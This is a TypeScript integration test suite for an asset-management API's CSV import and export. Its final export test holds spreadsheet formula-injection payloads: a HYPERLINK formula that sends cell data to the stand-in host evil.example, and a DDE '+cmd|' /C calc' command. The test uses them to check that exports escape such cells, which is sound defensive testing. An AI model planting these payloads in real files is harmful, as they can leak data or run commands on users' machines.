import { parse } from 'csv-parse/sync';
import { suite } from '../support/suite.js';
import * as assert from 'uvu/assert';
import type { JsonResponse, RunningApi } from '../support/api.js';
import { call, startApi } from '../support/api.js';
import { createAsset } from '../support/asset-fixtures.js';
import type { TenantFixture } from '../support/identity-fixtures.js';
import { bearer, createUser, expectStatus, setUpTenant, uniqueSuffix } from '../support/identity-fixtures.js';
import { parsePosition } from '../../src/eventstore/types.js';

interface RowError {
  readonly row: number;
  readonly tag: string | null;
  readonly errors: Array<{ field: string; message: string }>;
}
interface Report {
  readonly dryRun: boolean;
  readonly rows: number;
  readonly valid: number;
  readonly imported: number;
  readonly failed: number;
  readonly errors: RowError[];
  readonly errorsOmitted: number;
  /** Only on a 202: the log position to wait for. */
  readonly position?: string;
}
interface Problem {
  readonly status: number;
  readonly errors?: Array<{ path: string; message: string }>;
}
/** A file with bad rows: 422, nothing imported, the report inside. */
interface Refusal extends Problem {
  readonly detail: string;
  readonly report: Report;
}
interface Asset {
  readonly id: string;
  readonly tag: string;
  readonly name: string;
  readonly status: string;
  readonly categoryId: string;
  readonly ownerUserId: string | null;
  readonly purchaseCost: string | null;
  readonly purchaseDate: string | null;
  readonly attributes: Record<string, unknown>;
}

/** Categories whose schemas type their attributes, so the import has something to coerce. */
const DESKTOP_SCHEMA = {
  type: 'object',
  properties: { ramGb: { type: 'integer', minimum: 1 }, ssd: { type: 'boolean' }, ports: { type: 'array', items: { type: 'string' } }, model: { type: 'string' } },
  required: ['ramGb'],
  additionalProperties: false,
};

const test = suite<{ api?: RunningApi; a?: TenantFixture; b?: TenantFixture; category?: { id: string; name: string } }>('asset import and export over HTTP', {});

test.before(async (context) => {
  context.api = await startApi({ environment: { LOGIN_LIMIT_PER_ADDRESS: '10000', RATE_LIMIT_PER_MINUTE: '100000', READ_YOUR_WRITES_TIMEOUT_MS: '60000' } });
  [context.a, context.b] = await Promise.all([setUpTenant(context.api.baseUrl, 'Import A'), setUpTenant(context.api.baseUrl, 'Import B')]);
  context.category = await namedCategory(context.api, context.a, `Desktops ${uniqueSuffix()}`);
});
test.after(async (context) => {
  await context.api?.close();
});

const as = (tenant: TenantFixture, role: keyof TenantFixture['sessions'] = 'admin') => bearer(tenant.sessions[role].accessToken);

async function namedCategory(api: RunningApi, tenant: TenantFixture, name: string, attributesSchema: Record<string, unknown> = DESKTOP_SCHEMA): Promise<{ id: string; name: string }> {
  const created = await call<{ id: string }>(api.baseUrl, '/api/v1/asset-categories', { method: 'POST', json: { name, attributesSchema }, headers: as(tenant) });
  return { id: expectStatus(created, 201, 'creating a category').body.id, name };
}

function importCsv<T = Report>(api: RunningApi, tenant: TenantFixture, csv: string, options: { role?: keyof TenantFixture['sessions']; query?: string; contentType?: string } = {}): Promise<JsonResponse<T>> {
  return call<T>(api.baseUrl, `/api/v1/assets/import${options.query ?? ''}`, {
    method: 'POST',
    headers: { ...as(tenant, options.role), 'Content-Type': options.contentType ?? 'text/csv' },
    body: csv,
  });
}

function csvOf(rows: ReadonlyArray<readonly string[]>): string {
  return rows.map((row) => row.join(',')).join('\r\n') + '\r\n';
}

async function assetsTagged(api: RunningApi, tenant: TenantFixture, tag: string): Promise<Asset[]> {
  const listed = await call<{ data: Asset[] }>(api.baseUrl, `/api/v1/assets?tag=${encodeURIComponent(tag)}`, { headers: as(tenant) });
  return listed.body.data;
}

async function countByCategory(api: RunningApi, tenant: TenantFixture, categoryId: string): Promise<number> {
  const exported = await call<string>(api.baseUrl, `/api/v1/assets/export?categoryId=${categoryId}`, { headers: as(tenant) });
  return exported.body.split('\r\n').filter((line) => line !== '').length - 1;
}

test('a file of 10,000 rows with 3 bad ones imports nothing and lists the 3; fixed, all 10,000 go in, readable at once', async ({ api, a, category }) => {
  const batch = uniqueSuffix();
  const owner = a!.sessions.user.email;
  const header = ['tag', 'name', 'category', 'status', 'owner', 'serial', 'purchaseCost', 'attr.ramGb', 'attr.ssd'];
  const rows: string[][] = [header];
  for (let index = 1; index <= 10_000; index += 1) {
    rows.push([`BULK-${batch}-${index}`, `Desktop ${index}`, category!.name, index % 2 === 0 ? 'in_use' : '', index % 3 === 0 ? owner : '', `SN${index}`, '799.90', String(8 + (index % 4) * 8), index % 2 === 0 ? 'yes' : 'false']);
  }
  const before = await countByCategory(api!, a!, category!.id);
  const good = rows.map((row) => [...row]);
  rows[100]![7] = 'lots';
  rows[5_000]![2] = 'No such category';
  rows[9_000]![0] = `BULK-${batch}-1`;
  const refused = await importCsv<Refusal>(api!, a!, csvOf(rows));
  assert.is(refused.status, 422, JSON.stringify(refused.body).slice(0, 500));
  assert.match(refused.headers.get('content-type') ?? '', /^application\/problem\+json/);
  assert.is(refused.body.detail, '3 of 10000 rows cannot be imported, so nothing was; fix them and send the file again');
  assert.equal({ rows: refused.body.report.rows, valid: refused.body.report.valid, imported: refused.body.report.imported, failed: refused.body.report.failed, omitted: refused.body.report.errorsOmitted }, { rows: 10_000, valid: 9_997, imported: 0, failed: 3, omitted: 0 });
  assert.equal(refused.body.report.errors, [
    { row: 100, tag: `BULK-${batch}-100`, errors: [{ field: 'attr.ramGb', message: 'must be integer' }] },
    { row: 5_000, tag: `BULK-${batch}-5000`, errors: [{ field: 'category', message: 'no asset category with this name or id' }] },
    { row: 9_000, tag: `BULK-${batch}-1`, errors: [{ field: 'tag', message: 'repeats the tag of row 1' }] },
  ]);
  assert.equal(refused.body.errors?.map((error) => error.path), ['/rows/100/attr.ramGb', '/rows/5000/category', '/rows/9000/tag']);
  assert.is(await countByCategory(api!, a!, category!.id), before, 'nothing of the file was written');

  const started = Date.now();
  const imported = await importCsv(api!, a!, csvOf(good));
  const took = Date.now() - started;
  // 202 is the documented answer when the read models take longer than the bound to catch up,
  // which 10,000 rows can on a loaded machine; then the test waits for the position it was given.
  assert.ok([200, 202].includes(imported.status), JSON.stringify(imported.body).slice(0, 500));
  if (imported.status === 202) assert.ok(await api!.system.projections.waitFor(parsePosition(imported.body.position ?? '')!, 300_000), 'the read models never caught up with the import');
  assert.equal({ rows: imported.body.rows, imported: imported.body.imported, failed: imported.body.failed }, { rows: 10_000, imported: 10_000, failed: 0 });
  console.log(`  10,000-row import answered ${imported.status} in ${took} ms`);

  assert.is(await countByCategory(api!, a!, category!.id), before + 10_000);
  const [sixth] = await assetsTagged(api!, a!, `BULK-${batch}-6`);
  assert.equal(
    { name: sixth?.name, status: sixth?.status, owner: sixth?.ownerUserId, cost: sixth?.purchaseCost, attributes: sixth?.attributes },
    { name: 'Desktop 6', status: 'in_use', owner: a!.sessions.user.id, cost: '799.90', attributes: { ramGb: 24, ssd: true } },
  );
});

test('records exactly the events a single registration does', async ({ api, a, category }) => {
  const tag = `EV-${uniqueSuffix()}`;
  const imported = await importCsv(api!, a!, csvOf([['tag', 'name', 'category', 'attr.ramGb'], [tag, 'Desk PC', category!.id, '16']]));
  assert.is(imported.body.imported, 1, JSON.stringify(imported.body));
  const single = await call<Asset>(api!.baseUrl, '/api/v1/assets', { method: 'POST', headers: as(a!), json: { tag: `${tag}-single`, name: 'Desk PC', categoryId: category!.id, attributes: { ramGb: 16 } } });
  assert.is(single.status, 201);
  const [asset] = await assetsTagged(api!, a!, tag);
  const store = api!.system.store;
  const shape = async (stream: string) => (await store.readStream(stream)).map((event) => ({ type: event.type, data: event.data, metadataKeys: Object.keys(event.metadata).sort() }));
  const ignoring = (events: Awaited<ReturnType<typeof shape>>, fields: string[]) => events.map((event) => ({ ...event, data: Object.fromEntries(Object.entries(event.data).filter(([key]) => !fields.includes(key))) }));
  const fromImport = await shape(`asset-${asset!.id}`);
  const fromSingle = await shape(`asset-${single.body.id}`);
  assert.equal(ignoring(fromImport, ['assetId', 'tag', 'at']), ignoring(fromSingle, ['assetId', 'tag', 'at']));
  assert.equal(await shape(`assettag-${a!.id}:${tag.toLowerCase()}`), [{ type: 'AssetTagReserved', data: { tag, assetId: asset!.id }, metadataKeys: fromSingle[0]!.metadataKeys }]);
});

test('lists every problem of a row by column, and writes nothing for it (no tag left reserved)', async ({ api, a, category }) => {
  const tag = `BAD-${uniqueSuffix()}`;
  const csv = csvOf([
    ['tag', 'name', 'category', 'status', 'owner', 'purchaseDate', 'purchaseCost', 'attr.ramGb', 'attr.colour'],
    [tag, '', category!.name, 'lost', 'nobody@nowhere.example', '2024-02-30', '-5', '0', 'red'],
  ]);
  const refused = await importCsv<Refusal>(api!, a!, csv);
  assert.is(refused.status, 422);
  const imported = refused.body.report;
  assert.equal({ imported: imported.imported, failed: imported.failed }, { imported: 0, failed: 1 });
  const fields = imported.errors[0]!.errors.map((error) => error.field).sort();
  assert.equal(fields, ['attr.ramGb', 'attributes', 'name', 'owner', 'purchaseCost', 'purchaseDate', 'status'].sort(), JSON.stringify(imported.errors));
  assert.is(imported.errors[0]!.errors.find((error) => error.field === 'owner')?.message, 'no active user with this email or id');
  // The tag stays free: the fixed row goes in.
  const fixed = await importCsv(api!, a!, csvOf([['tag', 'name', 'category', 'attr.ramGb'], [tag, 'Fixed', category!.name, '4']]));
  assert.equal({ imported: fixed.body.imported, failed: fixed.body.failed }, { imported: 1, failed: 0 });
});

test('refuses an unknown, repeated or missing column before writing anything', async ({ api, a, category }) => {
  const tag = `HDR-${uniqueSuffix()}`;
  const unknown = await importCsv<Problem>(api!, a!, csvOf([['tag', 'name', 'category', 'colour'], [tag, 'PC', category!.name, 'red']]));
  assert.is(unknown.status, 400);
  assert.match(unknown.headers.get('content-type') ?? '', /^application\/problem\+json/);
  assert.equal(unknown.body.errors?.map((error) => error.path), ['/columns/3']);
  const repeated = await importCsv<Problem>(api!, a!, csvOf([['tag', 'name', 'name', 'attr.'], [tag, 'PC', 'PC', '1']]));
  assert.is(repeated.status, 400);
  assert.equal(repeated.body.errors?.map((error) => error.path), ['/columns/2', '/columns/3', '/columns']);
  const empty = await importCsv(api!, a!, '');
  assert.is(empty.status, 400);
  const broken = await importCsv(api!, a!, `tag,name,category\r\n${tag},"unclosed,${category!.name}\r\n`);
  assert.is(broken.status, 400);
  assert.equal(await assetsTagged(api!, a!, tag), []);
});

test('a tag is refused when it repeats within the file or exists already, in any case; the file imports nothing', async ({ api, a, category }) => {
  const existing = `DUP-${uniqueSuffix()}`;
  await createAsset(api!.baseUrl, a!.sessions.admin.accessToken, category!.id, { tag: existing, attributes: { ramGb: 8 } });
  const fresh = `DUP-${uniqueSuffix()}`;
  const csv = csvOf([['tag', 'name', 'category', 'attr.ramGb'], [existing.toLowerCase(), 'Again', category!.name, '8'], [fresh, 'First', category!.name, '8'], [fresh.toLowerCase(), 'Second', category!.name, '8']]);
  const refused = await importCsv<Refusal>(api!, a!, csv);
  assert.equal({ status: refused.status, imported: refused.body.report.imported, failed: refused.body.report.failed }, { status: 422, imported: 0, failed: 2 });
  assert.equal(
    refused.body.report.errors.map((error) => [error.row, error.errors[0]!.message]),
    [
      [1, 'an asset with this tag already exists'],
      [3, 'repeats the tag of row 2'],
    ],
  );
  assert.equal(await assetsTagged(api!, a!, fresh), [], 'the good row waits for the file to be fixed');
});

test('resolves categories by name or id and owners by email or id; only active owners of the tenant', async ({ api, a, b, category }) => {
  const open = await namedCategory(api!, a!, `Peripherals ${uniqueSuffix()}`, { type: 'object' });
  const leaver = await createUser(api!.baseUrl, a!.sessions.admin.accessToken, 'user', 'leaver');
  expectStatus(await call(api!.baseUrl, `/api/v1/users/${leaver.id}/deactivate`, { method: 'POST', headers: as(a!) }), 200, 'deactivating a user');
  const prefix = `RES-${uniqueSuffix()}`;
  const csv = csvOf([
    ['tag', 'name', 'category', 'owner', 'attr.ramGb', 'attr.note'],
    [`${prefix}-1`, 'By id', category!.id, a!.sessions.technician.id, '8', ''],
    [`${prefix}-2`, 'By name in any case', open.name.toUpperCase(), a!.sessions.technician.email.toUpperCase(), '', 'kept as text'],
    [`${prefix}-3`, 'Leaver', open.name, leaver.email, '', ''],
    [`${prefix}-4`, 'Other tenant', open.name, b!.sessions.user.id, '', ''],
    [`${prefix}-5`, 'Other tenant category', b!.id, '', '', ''],
  ]);
  const refused = await importCsv<Refusal>(api!, a!, csv, { role: 'manager' });
  assert.is(refused.status, 422, JSON.stringify(refused.body));
  assert.equal(refused.body.report.errors.map((error) => [error.row, error.errors.map((problem) => problem.field)]), [[3, ['owner']], [4, ['owner']], [5, ['category']]]);
  const imported = await importCsv(api!, a!, csvOf(csv.trim().split('\r\n').slice(0, 3).map((line) => line.split(','))), { role: 'manager' });
  assert.equal([imported.status, imported.body.imported], [200, 2], JSON.stringify(imported.body));
  const [second] = await assetsTagged(api!, a!, `${prefix}-2`);
  assert.equal({ category: second?.categoryId, owner: second?.ownerUserId, attributes: second?.attributes }, { category: open.id, owner: a!.sessions.technician.id, attributes: { note: 'kept as text' } });
});

test('coerces attribute cells to the types the schema gives them', async ({ api, a, category }) => {
  const tag = `ATTR-${uniqueSuffix()}`;
  const csv = `tag,name,category,attr.ramGb,attr.ssd,attr.ports,attr.model\r\n${tag},Typed,${category!.name},32,TRUE,"[""usb-c"",""hdmi""]",0042\r\n`;
  const imported = await importCsv(api!, a!, csv);
  assert.is(imported.body.imported, 1, JSON.stringify(imported.body));
  assert.equal((await assetsTagged(api!, a!, tag))[0]?.attributes, { ramGb: 32, ssd: true, ports: ['usb-c', 'hdmi'], model: '0042' });
  const wrong = await importCsv<Refusal>(api!, a!, `tag,name,category,attr.ramGb,attr.ssd\r\n${tag}-2,Typed,${category!.name},3.5,maybe\r\n`);
  assert.equal(wrong.body.report.errors[0]?.errors.sort((x, y) => x.field.localeCompare(y.field)), [
    { field: 'attr.ramGb', message: 'must be integer' },
    { field: 'attr.ssd', message: 'must be boolean' },
  ]);
});

test('a dry run checks every row and writes nothing', async ({ api, a, category }) => {
  const tag = `DRY-${uniqueSuffix()}`;
  const csv = csvOf([['tag', 'name', 'category', 'attr.ramGb'], [tag, 'Would be', category!.name, '8'], [`${tag}-bad`, 'Would not', category!.name, 'x']]);
  const checked = await importCsv(api!, a!, csv, { query: '?dryRun=true' });
  assert.equal({ status: checked.status, dryRun: checked.body.dryRun, valid: checked.body.valid, imported: checked.body.imported, failed: checked.body.failed }, { status: 200, dryRun: true, valid: 1, imported: 0, failed: 1 });
  assert.equal(await assetsTagged(api!, a!, tag), []);
  const events = await api!.system.store.readStream(`assettag-${a!.id}:${tag.toLowerCase()}`);
  assert.is(events.length, 0);
  const real = await importCsv<Refusal>(api!, a!, csv);
  assert.equal([real.status, real.body.report.imported], [422, 0], 'without dryRun the bad row stops the file');
});

test('only admins and managers import; anything but text/csv is 415; a bad query is 400', async ({ api, a, category }) => {
  const csv = csvOf([['tag', 'name', 'category', 'attr.ramGb'], [`ROLE-${uniqueSuffix()}`, 'PC', category!.name, '8']]);
  assert.is((await importCsv(api!, a!, csv, { role: 'technician' })).status, 403);
  assert.is((await importCsv(api!, a!, csv, { role: 'user' })).status, 403);
  const anonymous = await call(api!.baseUrl, '/api/v1/assets/import', { method: 'POST', headers: { 'Content-Type': 'text/csv' }, body: csv });
  assert.is(anonymous.status, 401);
  const asJson = await call(api!.baseUrl, '/api/v1/assets/import', { method: 'POST', headers: as(a!), json: { tag: 'x' } });
  assert.is(asJson.status, 415);
  assert.is((await importCsv(api!, a!, csv, { contentType: 'text/plain' })).status, 415);
  assert.is((await importCsv(api!, a!, csv, { query: '?dryRun=perhaps' })).status, 400);
});

test('a file over the row or byte limit is 413 and writes nothing', async () => {
  const small = await startApi({ environment: { ASSET_IMPORT_MAX_ROWS: '3', ASSET_IMPORT_MAX_BYTES: '2048' } });
  try {
    const tenant = await setUpTenant(small.baseUrl, 'Import limits');
    const category = await namedCategory(small, tenant, 'Desktops');
    const prefix = `LIM-${uniqueSuffix()}`;
    const rows = (count: number) => csvOf([['tag', 'name', 'category', 'attr.ramGb'], ...Array.from({ length: count }, (_, index) => [`${prefix}-${index}`, 'PC', category.name, '8'])]);
    const tooMany = await importCsv(small, tenant, rows(4));
    assert.is(tooMany.status, 413, JSON.stringify(tooMany.body));
    const tooBig = await importCsv(small, tenant, `${rows(2)}${' '.repeat(4096)}`);
    assert.is(tooBig.status, 413);
    assert.equal(await assetsTagged(small, tenant, `${prefix}-0`), []);
    const fits = await importCsv(small, tenant, rows(3));
    assert.equal({ status: fits.status, imported: fits.body.imported }, { status: 200, imported: 3 });
  } finally {
    await small.close();
  }
});

test('export → import carries assets into another tenant; each tenant exports only its own', async ({ api, a, b }) => {
  const label = `Monitors ${uniqueSuffix()}`;
  const schema = { type: 'object', properties: { inches: { type: 'number' }, curved: { type: 'boolean' } } };
  const source = await namedCategory(api!, a!, label, schema);
  const prefix = `RT-${uniqueSuffix()}`;
  const csv = `tag,name,category,status,location,vendor,purchaseDate,purchaseCost,warrantyEnd,attr.inches,attr.curved\r\n${prefix}-1,"Wide, ""curved""",${label},in_use,Floor 2,Acme,2024-01-31,249.5,2027-01-31,34.5,yes\r\n${prefix}-2,Plain,${label},retired,,,,,,24,\r\n`;
  expectStatus(await importCsv(api!, a!, csv), 200, 'importing into tenant A');

  const exported = await call<string>(api!.baseUrl, `/api/v1/assets/export?categoryId=${source.id}`, { headers: as(a!, 'technician') });
  assert.is(exported.status, 200);
  assert.match(exported.headers.get('content-type') ?? '', /^text\/csv/);
  assert.match(exported.headers.get('content-disposition') ?? '', /^attachment; filename="assets-\d{4}-\d{2}-\d{2}\.csv"$/);
  assert.is(exported.body.split('\r\n')[0], 'tag,name,category,status,owner,location,serial,vendor,purchaseDate,purchaseCost,warrantyEnd,attr.curved,attr.inches');

  const target = await namedCategory(api!, b!, label, schema);
  const carried = await importCsv(api!, b!, exported.body);
  assert.equal({ status: carried.status, imported: carried.body.imported, failed: carried.body.failed }, { status: 200, imported: 2, failed: 0 });
  const strip = ({ tag, name, status, purchaseCost, purchaseDate, attributes }: Asset) => ({ tag, name, status, purchaseCost, purchaseDate, attributes });
  for (const suffix of ['1', '2']) {
    const [original] = await assetsTagged(api!, a!, `${prefix}-${suffix}`);
    const [copy] = await assetsTagged(api!, b!, `${prefix}-${suffix}`);
    assert.equal(strip(copy!), strip(original!));
    assert.is(copy!.categoryId, target.id);
  }
  const again = await call<string>(api!.baseUrl, `/api/v1/assets/export?categoryId=${target.id}`, { headers: as(b!) });
  assert.is(again.body, exported.body);

  // Tenant B's export holds its own two rows and none of tenant A's.
  const everythingOfB = await call<string>(api!.baseUrl, '/api/v1/assets/export', { headers: as(b!) });
  assert.is(everythingOfB.body.split('\r\n').filter((line) => line !== '').length, 3);
  const foreignFilter = await call<string>(api!.baseUrl, `/api/v1/assets/export?categoryId=${source.id}`, { headers: as(b!) });
  assert.is(foreignFilter.body.split('\r\n').filter((line) => line !== '').length, 1);
  const retired = await call<string>(api!.baseUrl, `/api/v1/assets/export?status=retired&categoryId=${source.id}`, { headers: as(a!) });
  assert.equal(retired.body.split('\r\n').filter((line) => line !== '').slice(1).map((line) => line.split(',')[0]), [`${prefix}-2`]);
});

test('cells a spreadsheet would run as formulas are exported behind a single quote, and import back as they were', async ({ api, a, b }) => {
  const label = `Kiosks ${uniqueSuffix()}`;
  const schema = { type: 'object', properties: { note: { type: 'string' }, floor: { type: 'number' } } };
  const source = await namedCategory(api!, a!, label, schema);
  const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(A1:A9)', '\tx', '\rx'];
  const prefix = `FX-${uniqueSuffix()}`;
  const names = ['=HYPERLINK("http://evil.example","open")', '+cmd', '-1+1', '@SUM(1+1)', 'Tab kiosk', 'Return kiosk'];
  for (const [index, note] of formulas.entries()) {
    await createAsset(api!.baseUrl, a!.sessions.admin.accessToken, source.id, { tag: `${prefix}-${index}`, name: names[index], attributes: { note, floor: -index - 1 } });
  }

  const exported = await call<string>(api!.baseUrl, `/api/v1/assets/export?categoryId=${source.id}`, { headers: as(a!) });
  assert.is(exported.status, 200);
  const [header, ...rows]: string[][] = parse(exported.body);
  const column = (name: string) => header!.indexOf(name);
  const byTag = new Map(rows.map((row) => [row[column('tag')]!, row]));
  for (const [index, note] of formulas.entries()) {
    const row = byTag.get(`${prefix}-${index}`)!;
    assert.is(row[column('attr.note')], `'${note}`, `note ${JSON.stringify(note)}`);
    assert.is(row[column('attr.floor')], String(-index - 1), 'a number stays a number, unguarded');
    const name = names[index]!;
    assert.is(row[column('name')], /^[=+\-@]/.test(name) ? `'${name}` : name);
  }

  await namedCategory(api!, b!, label, schema);
  const carried = await importCsv(api!, b!, exported.body);
  assert.equal({ status: carried.status, imported: carried.body.imported, failed: carried.body.failed }, { status: 200, imported: formulas.length, failed: 0 });
  for (const [index, note] of formulas.entries()) {
    const [copy] = await assetsTagged(api!, b!, `${prefix}-${index}`);
    assert.equal({ name: copy!.name, attributes: copy!.attributes }, { name: names[index], attributes: { note, floor: -index - 1 } });
  }
});

test('requesters may not export; a bad filter is 400', async ({ api, a }) => {
  assert.is((await call(api!.baseUrl, '/api/v1/assets/export', { headers: as(a!, 'user') })).status, 403);
  assert.is((await call(api!.baseUrl, '/api/v1/assets/export')).status, 401);
  assert.is((await call(api!.baseUrl, '/api/v1/assets/export?status=lost', { headers: as(a!) })).status, 400);
  assert.is((await call(api!.baseUrl, '/api/v1/assets/export?owner=me', { headers: as(a!) })).status, 400);
});

test.run();
